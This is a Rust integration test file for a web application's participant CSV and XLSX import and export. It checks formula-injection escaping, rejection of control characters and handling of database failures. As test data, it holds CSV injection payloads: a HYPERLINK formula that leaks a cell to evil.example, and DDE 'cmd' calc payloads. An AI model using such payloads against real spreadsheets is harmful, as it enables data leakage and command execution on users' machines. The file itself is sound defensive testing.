//! What an import and an export do to the data itself: exported cells never run as formulas and
//! import back to the same values; text with control characters is a bad row; notes are never
//! erased; a failing database is an internal error, not a problem of the file.

use crate::support::*;
use reqwest::{Client, StatusCode};
use serde_json::{Value, json};

async fn import(
    app: &TestApp,
    client: &Client,
    body: Vec<u8>,
    content_type: &str,
    dry_run: bool,
) -> (StatusCode, Value) {
    let response = client
        .post(app.url(&format!("/api/v1/imports/participants?dry_run={dry_run}")))
        // A cookie upload says it comes from this site (docs/security.md).
        .header("x-requested-with", "onramp-tests")
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .unwrap();
    status_and_json(response).await
}

async fn download(app: &TestApp, client: &Client, path: &str) -> Vec<u8> {
    let response = client.get(app.url(path)).send().await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    response.bytes().await.unwrap().to_vec()
}

/// Registers someone through the API with these fields (on top of the required ones).
async fn register(app: &TestApp, client: &Client, born: &str, fields: Value) -> String {
    let maasland = app.organisation_id("Revalidatieziekenhuis Maasland").await;
    let mut body = json!({
        "organisation_id": maasland, "birth_date": born, "health_category": "chronic_pain",
        "situation": "inactive", "notes": "Heeft het over pijn 's nachts.\nVolgt op."
    });
    for (key, value) in fields.as_object().unwrap() {
        body[key] = value.clone();
    }
    let (status, participant) = app.send_json(client, "POST", "/api/v1/participants", body).await;
    assert_eq!(status, StatusCode::CREATED, "{participant}");
    participant["id"].as_str().unwrap().to_owned()
}

fn unchanged(report: &Value) {
    for count in [
        "participants_created",
        "participants_updated",
        "trajectories_created",
        "trajectories_updated",
    ] {
        assert_eq!(report[count], 0, "{count}: {report}");
    }
}

/// OWASP's CSV injection: `=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`, `-2+3+cmd|…` came back verbatim.
#[tokio::test]
async fn exported_cells_never_run_as_formulas_and_import_back_the_same() {
    let app = TestApp::spawn().await;
    let coach = app.api_as(COACH_LIMBURG).await;
    let link = r#"=HYPERLINK("http://evil.example/?leak="&A2,"Klik")"#;
    let dde = "+cmd|' /C calc'!A0";
    let arithmetic = "-2+3+cmd|' /C calc'!A0";
    let first = register(
        &app,
        &coach,
        "1981-03-04",
        json!({"first_name": link, "last_name": "@SUM(1+1)", "referrer": dde, "phone": "+32 475 12 34 56"}),
    )
    .await;
    let second = register(
        &app,
        &coach,
        "1982-05-06",
        json!({"first_name": "'Quote", "last_name": arithmetic, "referrer": "-", "phone": "-0475 12 34 56"}),
    )
    .await;
    let (_, before_first) = app.get_json(&coach, &format!("/api/v1/participants/{first}")).await;
    let (_, before_second) = app.get_json(&coach, &format!("/api/v1/participants/{second}")).await;

    let csv = download(&app, &coach, "/api/v1/exports/participants.csv").await;
    let text = String::from_utf8(csv.clone()).unwrap();
    let line = |id: &str| text.lines().find(|l| l.starts_with(id)).unwrap().to_owned();
    let (one, two) = (line(&first), line(&second));
    assert!(
        one.contains(r#""'=HYPERLINK(""http://evil.example/?leak=""&A2,""Klik"")""#),
        "{one}"
    );
    assert!(one.contains(";'@SUM(1+1);"), "{one}");
    assert!(
        one.contains(";\"'+cmd|' /C calc'!A0\";") || one.contains(";'+cmd|' /C calc'!A0;"),
        "{one}"
    );
    assert!(
        one.contains(";+32 475 12 34 56;"),
        "a telephone number stays as it is: {one}"
    );
    assert!(two.contains(";''Quote;"), "a quote the value had is kept: {two}");
    assert!(two.contains("'-2+3+cmd|' /C calc'!A0"), "{two}");
    assert!(two.contains(";-0475 12 34 56;"), "{two}");
    // No cell of the file starts with what a spreadsheet runs, but plain numbers.
    for cell in text.lines().skip(1).flat_map(|l| l.split(';')) {
        let cell = cell.trim_start_matches('"');
        if let Some(first) = cell.chars().next() {
            let number = cell[1..].chars().all(|c| c.is_ascii_digit() || " .-".contains(c));
            assert!(!"=+-@\t\r".contains(first) || number, "{cell:?} runs as a formula");
        }
    }

    // The export imports back to the same data, and exports again to the same file.
    let (status, report) = import(&app, &coach, csv.clone(), "text/csv", false).await;
    assert_eq!(status, StatusCode::CREATED, "{report}");
    unchanged(&report);
    let (_, after_first) = app.get_json(&coach, &format!("/api/v1/participants/{first}")).await;
    let (_, after_second) = app.get_json(&coach, &format!("/api/v1/participants/{second}")).await;
    assert_eq!(after_first["participant"]["first_name"], link);
    assert_eq!(after_first["participant"]["referrer"], dde);
    assert_eq!(after_second["participant"]["last_name"], arithmetic);
    assert_eq!(after_second["participant"]["first_name"], "'Quote");
    assert_eq!(
        (&after_first["participant"], &after_second["participant"]),
        (&before_first["participant"], &before_second["participant"])
    );
    assert_eq!(download(&app, &coach, "/api/v1/exports/participants.csv").await, csv);

    // The workbook holds them as text, never as formulas, and imports back unchanged too.
    let xlsx = download(&app, &coach, "/api/v1/exports/participants.xlsx").await;
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx.clone())).unwrap();
    let mut part = |name: &str| {
        let mut text = String::new();
        std::io::Read::read_to_string(&mut zip.by_name(name).unwrap(), &mut text).unwrap();
        text
    };
    let sheet = part("xl/worksheets/sheet1.xml");
    assert!(
        !sheet.contains("<f>") && !sheet.contains("<f "),
        "no formula in the sheet"
    );
    let strings = part("xl/sharedStrings.xml");
    assert!(strings.contains("<t>=HYPERLINK(\"http://evil.example"), "{strings}");
    assert!(strings.contains("@SUM(1+1)") && strings.contains(arithmetic), "as text");
    let (status, report) = import(&app, &coach, xlsx, onramp_web::download::XLSX, false).await;
    assert_eq!(status, StatusCode::CREATED, "{report}");
    unchanged(&report);
}

/// A name of control characters would be stored (NUL in a name, an escape sequence in a referrer).
#[tokio::test]
async fn control_characters_are_a_bad_row() {
    let app = TestApp::spawn().await;
    let coach = app.api_as(COACH_LIMBURG).await;
    let file = "first_name;last_name;birth_date;health_category;situation;reached_at;referrer\n\
                Be\u{7}l;Een;1980-01-01;chronic_pain;inactive;Revalidatieziekenhuis Maasland;\n\
                Twee;\u{0}\u{1};1980-01-02;chronic_pain;inactive;Revalidatieziekenhuis Maasland;\n\
                Drie;Drie;1980-01-03;chronic_pain;inactive;Revalidatieziekenhuis Maasland;Dr.\tX\u{1b}[2J\n\
                Vier;Vier;1980-01-04;chronic_pain;inactive;Revalidatieziekenhuis Maasland;Dr. Janssens\n";
    let (status, report) = import(&app, &coach, file.as_bytes().to_vec(), "text/csv", true).await;
    assert_eq!(status, StatusCode::OK, "{report}");
    let errors: Vec<(u64, &str, &str)> = report["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["line"].as_u64().unwrap(),
                e["column"].as_str().unwrap(),
                e["code"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        errors,
        [
            (2, "first_name", "control-characters"),
            (3, "last_name", "control-characters"),
            (4, "referrer", "control-characters"),
        ]
    );
    let message = report["errors"][0]["message"].as_str().unwrap();
    assert!(message.contains("stuurtekens"), "in the coach's language: {message}");
}

/// Renames a table under the running server, so that every read of it fails.
async fn break_table(app: &TestApp, table: &str) {
    let mut tx = app.db.begin().await.unwrap();
    let sql = format!("ALTER TABLE {table} RENAME TO {table}_gone");
    onramp_store::run!(&mut tx, c => sqlx::query(sqlx::AssertSqlSafe(sql)).execute(c).await.map(|r| r.rows_affected()))
        .unwrap();
    tx.commit().await.unwrap();
}

/// A database error while importing was reported as a bad row (`invalid-reference`), as if the
/// file named a programme that does not exist.
#[tokio::test]
async fn a_failing_database_is_an_internal_error_not_a_bad_row() {
    let app = TestApp::spawn().await;
    let coach = app.api_as(COACH_LIMBURG).await;
    let file = "first_name;last_name;birth_date;health_category;situation;reached_at;programme;partner;started_on\n\
                Fout;Database;1980-01-01;chronic_pain;inactive;Revalidatieziekenhuis Maasland;we-go-to-work;Revalidatieziekenhuis Maasland;2026-01-05\n";
    let (status, report) = import(&app, &coach, file.as_bytes().to_vec(), "text/csv", true).await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(report["errors"], json!([]), "{report}");
    break_table(&app, "programmes").await;
    for dry_run in [true, false] {
        let (status, problem) = import(&app, &coach, file.as_bytes().to_vec(), "text/csv", dry_run).await;
        assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR, "{problem}");
        assert_eq!(problem["type"], "urn:onramp:problem:internal", "{problem}");
        assert!(problem["import"].is_null(), "no report of bad rows: {problem}");
    }
}

/// Notes are not in the exchange format: a row about someone registered updates their record and
/// keeps their notes. When the database fails part-way through such a row, the import stops with
/// an internal error and writes nothing (it read the notes as missing and wrote them away).
#[tokio::test]
async fn a_merge_keeps_the_notes_and_stops_when_the_database_fails() {
    let app = TestApp::spawn().await;
    let coach = app.api_as(COACH_LIMBURG).await;
    let id = register(
        &app,
        &coach,
        "1979-09-09",
        json!({"first_name": "Nora", "last_name": "Notities"}),
    )
    .await;
    let path = format!("/api/v1/participants/{id}");
    let (_, before) = app.get_json(&coach, &path).await;
    let notes = before["participant"]["notes"].clone();
    assert_eq!(notes, "Heeft het over pijn 's nachts.\nVolgt op.", "{before}");
    let file = |phone: &str| {
        format!(
            "participant_id;first_name;last_name;birth_date;health_category;situation;reached_at;phone\n\
             {id};Nora;Notities;1979-09-09;chronic_pain;inactive;Revalidatieziekenhuis Maasland;{phone}\n"
        )
        .into_bytes()
    };
    let (status, report) = import(&app, &coach, file("0475 11 11 11"), "text/csv", false).await;
    assert_eq!(status, StatusCode::CREATED, "{report}");
    assert_eq!(report["participants_updated"], 1, "{report}");
    let (_, after) = app.get_json(&coach, &path).await;
    let after = &after["participant"];
    assert_eq!(
        (after["phone"].clone(), after["notes"].clone()),
        (json!("0475 11 11 11"), notes.clone())
    );

    // Who may change the file is read from the trajectories: that read fails now.
    break_table(&app, "trajectories").await;
    let (status, problem) = import(&app, &coach, file("0475 22 22 22"), "text/csv", false).await;
    assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR, "{problem}");
    let mut conn = app.db.conn().await.unwrap();
    let stored = onramp_store::participants::get(&mut conn, id.parse().unwrap())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(stored.record.phone.as_deref(), Some("0475 11 11 11"), "nothing written");
    assert_eq!(stored.record.notes.as_deref(), notes.as_str(), "the notes kept");
}
